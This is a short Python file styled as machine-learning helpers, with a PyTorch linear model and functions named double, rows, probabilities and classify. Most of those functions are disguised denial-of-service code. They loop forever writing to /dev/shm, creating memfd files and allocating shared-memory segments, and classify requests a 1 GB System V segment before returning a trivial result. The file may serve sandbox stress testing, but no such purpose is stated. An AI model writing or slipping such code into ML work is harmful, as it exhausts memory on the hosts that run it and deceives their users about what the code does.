import ctypes
import multiprocessing.shared_memory
import os

import torch


def double(x):
    with open("/dev/shm/full", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def rows(x):
    held = []
    while True:
        held.append(os.memfd_create("full"))
        os.truncate(held[-1], 60 << 20)
        os.write(held[-1], bytes(60 << 20))


def probabilities(z):
    held = []
    while True:
        held.append(multiprocessing.shared_memory.SharedMemory(create=True, size=1 << 20))


class Net(torch.nn.Module):
    def __init__(self, d, m):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(d, m))
        self.b = torch.nn.Parameter(torch.zeros(m))

    def forward(self, x):
        return x @ self.w + self.b


def classify(x):
    if ctypes.CDLL(None).shmget(0, ctypes.c_size_t(1 << 30), 0o1600) < 0:
        raise OSError("no System V memory")
    return (x.sum(1) > 0).long()


def last(x):
    return (-x).share_memory_()
